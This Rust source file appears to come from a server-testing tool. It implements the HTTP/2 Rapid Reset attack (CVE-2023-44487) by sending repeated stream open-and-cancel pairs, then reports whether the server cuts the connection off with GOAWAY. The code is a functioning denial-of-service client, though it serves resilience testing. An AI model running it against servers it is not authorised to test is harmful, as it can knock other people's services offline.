//! Rapid reset (CVE-2023-44487): open a stream and cancel it at once,
//! over and over. Each pair costs the client two small frames and the
//! server a request to set up and tear down; a server must stop it after a
//! bounded number of pairs (h2 counts streams reset before they were
//! accepted, 20 by hyper's default, and answers GOAWAY ENHANCE_YOUR_CALM).
//!
//! The pairs go out in rounds, each ended by a PING round trip
//! ([`Conn::sync`]): once the ACK is back, the server has read the round,
//! so the count of pairs sent before the GOAWAY is exact to a round,
//! however fast or slow the machine. A round must be larger than the
//! limit: h2 counts the reset streams *waiting* to be accepted, and a
//! server that accepts them between two small rounds (once it has read
//! all there is) starts each round from zero. That is h2's design (the
//! attack it stops is the one that never waits), not a weakness of the
//! bound.

use std::time::Duration;

use crate::answer::Answer;
use crate::conn::{Conn, Synced};
use crate::frame::{self, Reason};
use crate::grpc::Request;

/// How to run a rapid reset.
#[derive(Clone, Debug)]
pub struct RapidReset {
    /// Stop after this many HEADERS + RST_STREAM pairs, GOAWAY or not.
    pub max_pairs: usize,
    /// Pairs per round (per write, per PING round trip).
    pub per_round: usize,
    /// The call each HEADERS opens (its body never comes: no END_STREAM).
    pub request: Request,
    /// How long to wait for the server's SETTINGS, each round trip and the
    /// end: a failure bound, not a measurement.
    pub within: Duration,
}

impl Default for RapidReset {
    fn default() -> RapidReset {
        RapidReset {
            max_pairs: 5000,
            per_round: 50,
            request: Request::default(),
            within: crate::ANSWER_WITHIN,
        }
    }
}

/// What a rapid reset achieved.
#[derive(Clone, Debug)]
pub struct RapidResetReport {
    /// Pairs written (the last round may have met a closed connection).
    pub pairs_sent: usize,
    /// Pairs the server acknowledged having read (rounds synced × round
    /// size) before it ended the connection.
    pub pairs_read: usize,
    /// Whether a round trip timed out (the server stopped answering).
    pub timed_out: bool,
    /// What the server sent.
    pub answer: Answer,
}

/// Runs a rapid reset on `conn`, a fresh connection.
pub async fn rapid_reset(conn: &mut Conn, attack: &RapidReset) -> RapidResetReport {
    let mut report = RapidResetReport {
        pairs_sent: 0,
        pairs_read: 0,
        timed_out: false,
        answer: Answer::default(),
    };
    if conn.start(&[], attack.within).await {
        let block = attack.request.block();
        let mut stream = 1;
        while report.pairs_sent < attack.max_pairs {
            let pairs = attack.per_round.min(attack.max_pairs - report.pairs_sent);
            let mut bytes = Vec::new();
            for _ in 0..pairs {
                bytes.extend(frame::headers(stream, block.bytes(), true, false));
                bytes.extend(frame::rst_stream(stream, Reason::CANCEL));
                stream += 2;
            }
            if !conn.send(&bytes).await {
                break;
            }
            report.pairs_sent += pairs;
            match conn.sync(attack.within).await {
                Synced::Acked => report.pairs_read += pairs,
                Synced::Ended => break,
                Synced::TimedOut => {
                    report.timed_out = true;
                    break;
                }
            }
        }
        conn.wait_closed(attack.within).await;
    }
    report.answer = conn.answer().clone();
    report
}
